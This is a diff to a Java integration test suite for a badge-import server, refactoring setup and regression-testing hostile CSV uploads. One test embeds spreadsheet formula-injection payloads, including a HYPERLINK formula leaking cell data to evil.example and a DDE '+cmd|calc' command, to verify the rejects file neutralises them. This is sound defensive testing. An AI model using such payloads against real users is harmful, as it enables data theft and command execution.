@@ -121,13 +121,23 @@ class HostileFilesIT {
         assertEquals(1, api.get("badgeMeta/" + badge).data().getInt("earnedCount"));
     }
 
+    /** A fresh org of the shared server, its inbox folder and a claimed earn badge. */
+    private record OrgWithBadge(Api api, Path inbox, String badge) {
+        static OrgWithBadge create(String prefix) {
+            BadgeworksServer server = BadgeworksServer.shared();
+            Api api = server.admin().newOrg(prefix);
+            return new OrgWithBadge(api, server.inbox().resolve(Long.toString(api.orgId())),
+                    Badges.createClaimed(api, Badges.earnBadge(Badges.uniqueName(prefix)), "Loyalty", "p1"));
+        }
+    }
+
     /** Issue 26: {"path": "failed/<id>-a.csv"} moved another import's archived file away and broke its restart. */
     @Test
     void theInboxsOwnFoldersHoldNoFilesToImport() throws Exception {
-        BadgeworksServer server = BadgeworksServer.shared();
-        Api api = server.admin().newOrg("archive");
-        Path inbox = server.inbox().resolve(Long.toString(api.orgId()));
-        String badge = Badges.createClaimed(api, Badges.earnBadge(Badges.uniqueName("Archive")), "Loyalty", "p1");
+        OrgWithBadge org = OrgWithBadge.create("archive");
+        Api api = org.api();
+        Path inbox = org.inbox();
+        String badge = org.badge();
         String id = Imports.upload(api, "night.csv", "text/csv", Imports.HEADER + "arch-1," + badge + ",c1,,Loyalty,p1\n"
                 + "arch-2,nope,c2,,Loyalty,p1\n");
         Imports.await(api, id, Duration.ofSeconds(60), "COMPLETED");
@@ -171,16 +181,15 @@ class HostileFilesIT {
     /** Issue 26: a row's formula was copied verbatim into the rejects file an operator opens in a spreadsheet. */
     @Test
     void theRejectsFileRunsNoFormulas() throws Exception {
-        BadgeworksServer server = BadgeworksServer.shared();
-        Api api = server.admin().newOrg("formulas");
-        Path inbox = server.inbox().resolve(Long.toString(api.orgId()));
-        String badge = Badges.createClaimed(api, Badges.earnBadge(Badges.uniqueName("Formula")), "Loyalty", "p1");
+        OrgWithBadge org = OrgWithBadge.create("formulas");
+        Api api = org.api();
+        String badge = org.badge();
         String hyperlink = "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"click\"\")\",nope,c1,,Loyalty,p1";
         String command = "+cmd|calc!A0,nope,c2,,Loyalty,p1";
         String id = Imports.upload(api, "formulas.csv", "text/csv", Imports.HEADER + hyperlink + "\n" + command + "\n"
                 + "ok-1," + badge + ",c3,,Loyalty,p1\n" + "@SUM(A1)," + badge + ",c4,,Nobody,p1\n");
         JsonObject done = Imports.await(api, id, Duration.ofSeconds(60), "COMPLETED");
-        try (CSVParser rejects = CSVParser.parse(Imports.rejectsFile(inbox, "done", id),
+        try (CSVParser rejects = CSVParser.parse(Imports.rejectsFile(org.inbox(), "done", id),
                 CSVFormat.DEFAULT.builder().setHeader().get())) {
             List<String> originals = rejects.getRecords().stream().map(r -> r.get("original")).toList();
             assertEquals(3, originals.size(), originals.toString());
